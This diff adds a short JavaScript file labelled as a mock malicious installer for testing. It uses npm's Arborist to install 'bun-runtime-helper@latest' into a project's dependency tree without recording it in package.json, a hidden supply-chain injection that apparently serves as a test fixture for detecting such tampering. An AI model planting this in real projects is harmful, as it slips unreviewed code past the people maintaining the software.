@@ -0,0 +1,11 @@
+// MOCK malicious installer - FOR TESTING ONLY
+// Adds a dependency to the installed tree without touching package.json
+
+const Arborist = require('@npmcli/arborist');
+
+async function inject(dir) {
+  const arb = new Arborist({ path: dir });
+  await arb.reify({ add: ['bun-runtime-helper@latest'], save: false });
+}
+
+module.exports = inject;